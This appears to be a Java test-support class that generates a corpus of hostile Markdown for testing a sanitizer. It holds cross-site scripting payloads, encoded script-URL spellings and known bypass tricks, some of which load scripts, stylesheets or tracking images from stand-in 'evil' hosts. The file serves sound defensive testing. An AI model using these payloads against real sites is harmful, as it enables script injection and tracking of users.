package app.stepwise.content;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * A systematic corpus of hostile Markdown: raw HTML with event handlers, script-like URL schemes in many spellings and
 * encodings in every place Markdown puts a URL, and a hand-written tail of known sanitizer bypass tricks.
 */
public final class HostilePayloads {

    private HostilePayloads() {
    }

    static List<String> all() {
        Set<String> payloads = new LinkedHashSet<>();
        payloads.addAll(rawHtmlWithHandlers());
        payloads.addAll(schemesInEveryUrlPosition());
        payloads.addAll(knownTricks());
        return List.copyOf(payloads);
    }

    static List<String> rawHtmlWithHandlers() {
        List<String> tags = List.of(
                "<img src=x %s=alert(1)>", "<svg %s=alert(1)>", "<body %s=alert(1)>", "<div %s=alert(1)>x</div>",
                "<a href=# %s=alert(1)>x</a>", "<iframe %s=alert(1)></iframe>", "<input autofocus %s=alert(1)>",
                "<details open %s=alert(1)>", "<video src=x %s=alert(1)>", "<audio src=x %s=alert(1)>",
                "<marquee %s=alert(1)>x</marquee>", "<select autofocus %s=alert(1)>", "<textarea autofocus "
                        + "%s=alert(1)>", "<object data=x %s=alert(1)>", "<embed src=x %s=alert(1)>",
                "<math %s=alert(1)>", "<style %s=alert(1)></style>", "<button %s=alert(1)>x</button>",
                "<form %s=alert(1)><button>x</button></form>", "<p %s=alert(1)>x</p>",
                "<table %s=alert(1)><tr><td>x</td></tr></table>", "<span %s=alert(1)>x</span>");
        List<String> handlers = List.of("onerror", "OnLoad", "onclick", "onmouseover", "onfocus", "ontoggle");
        List<String> payloads = new ArrayList<>();
        for (int i = 0; i < tags.size(); i++) {
            // Two handlers per tag, rotating, keeps the corpus varied without a full cross product.
            payloads.add(tags.get(i).formatted(handlers.get(i % handlers.size())));
            payloads.add("Inline " + tags.get(i).formatted(handlers.get((i + 3) % handlers.size())) + " text");
        }
        return payloads;
    }

    static List<String> schemesInEveryUrlPosition() {
        List<String> urls = new ArrayList<>();
        for (String scheme : List.of("javascript", "vbscript", "livescript")) {
            urls.addAll(spellings(scheme, ":alert(1)"));
        }
        urls.addAll(List.of("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "DATA:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>",
                "d&#97;ta:text/html,x", " data:text/html,x"));
        return inEveryUrlPosition(urls, spellings("javascript", ":alert(1)"));
    }

    /** Each URL as an inline link, an image, a reference link and a titled link; the others as autolinks. */
    public static List<String> inEveryUrlPosition(List<String> urls, List<String> autolinks) {
        List<String> payloads = new ArrayList<>();
        for (String url : urls) {
            payloads.add("[click](" + url + ")");
            payloads.add("![img](" + url + ")");
            payloads.add("[ref][r]\n\n[r]: " + url);
            payloads.add("[titled](" + url + " \"title\")");
        }
        for (String url : autolinks) {
            payloads.add("<" + url + ">");
        }
        return payloads;
    }

    /** One scheme written the ways browsers still understand: case, entities, whitespace and control chars. */
    public static List<String> spellings(String scheme, String rest) {
        String first = scheme.substring(0, 1);
        String tail = scheme.substring(1);
        String mixed = mixedCase(scheme);
        return List.of(
                scheme + rest,
                scheme.toUpperCase() + rest,
                mixed + rest,
                "&#" + (int) first.charAt(0) + ";" + tail + rest,
                "&#x" + Integer.toHexString(first.charAt(0)) + ";" + tail + rest,
                "&#X" + Integer.toHexString(first.charAt(0)).toUpperCase() + ";" + tail + rest,
                "&#0000" + (int) first.charAt(0) + ";" + tail + rest,
                scheme.substring(0, 4) + "&#" + (int) scheme.charAt(4) + ";" + scheme.substring(5) + rest,
                scheme.substring(0, 4) + "&#x09;" + scheme.substring(4) + rest,
                scheme.substring(0, 4) + "&Tab;" + scheme.substring(4) + rest,
                scheme.substring(0, 4) + "&NewLine;" + scheme.substring(4) + rest,
                scheme + "&colon;" + rest.substring(1),
                "%20" + scheme + rest,
                "&#1;" + scheme + rest,
                "<" + scheme + rest + ">");
    }

    static List<String> knownTricks() {
        return List.of(
                "<script>alert(1)</script>", "<SCRIPT SRC=//evil/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
                "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
                "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a>",
                "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
                "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
                "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
                "<object data=\"javascript:alert(1)\"></object>", "<embed src=\"javascript:alert(1)\">",
                "<style>@import 'http://evil/x.css';</style>", "<div style=\"background:url(javascript:alert(1))\">x",
                "<div style=\"width:expression(alert(1))\">x</div>",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<form action=\"javascript:alert(1)\"><input type=submit></form>",
                "<button formaction=\"javascript:alert(1)\">x</button>", "<base href=\"javascript:alert(1)//\">",
                "<link rel=stylesheet href=\"javascript:alert(1)\">", "<a href=\"javascript&colon;alert(1)\">x</a>",
                "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">x</a>",
                "[a](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1))",
                "[[a](javascript:alert(1))](https://ok.example)", "[a](<javascript:alert(1)>)",
                "[a](javascript:alert(1) 'title')", "![x\" onerror=\"alert(1)](a.png)",
                "[a](https://ok.example \"a\\\" onmouseover=\\\"alert(1)\")", "# <img src=x onerror=alert(1)>",
                "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
                "- [ ] <script>alert(1)</script>", "- [x] [task](javascript:alert(1))",
                "> <iframe src=javascript:alert(1)>", "`<script>alert(1)</script>`",
                "```html\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>",
                "<a href=\"jav\tascript:alert(1)\">x</a>", "[a](java\u0000script:alert(1))",
                "[a](java%0ascript:alert(1))", "[a](vbscript:msgbox(1))", "![a](//evil.example/x.png)",
                "![a](http://evil.example/track.png)", "<img src=\"data:image/png;base64,AAAA\">",
                "<x onclick=alert(1)>x</x>", "<a href=x onclick=\"alert(1)\" >x</a>",
                "<isindex action=javascript:alert(1) type=image>", "<frameset onload=alert(1)>",
                "<applet code=x></applet>", "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<img src=`x` onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg/onload=alert(1)>",
                "<a href=\"\u2028javascript:alert(1)\">x</a>", "[a](\u0001javascript:alert(1))",
                "*[a](javascript:alert(1))*", "**[a](javascript:alert(1))**", "~~<img src=x onerror=alert(1)>~~",
                "<https://ok.example/\"onmouseover=\"alert(1)>", "<mailto:a@b.c\"onmouseover=\"alert(1)>");
    }

    private static String mixedCase(String text) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            out.append(i % 2 == 0 ? Character.toUpperCase(c) : c);
        }
        return out.toString();
    }
}
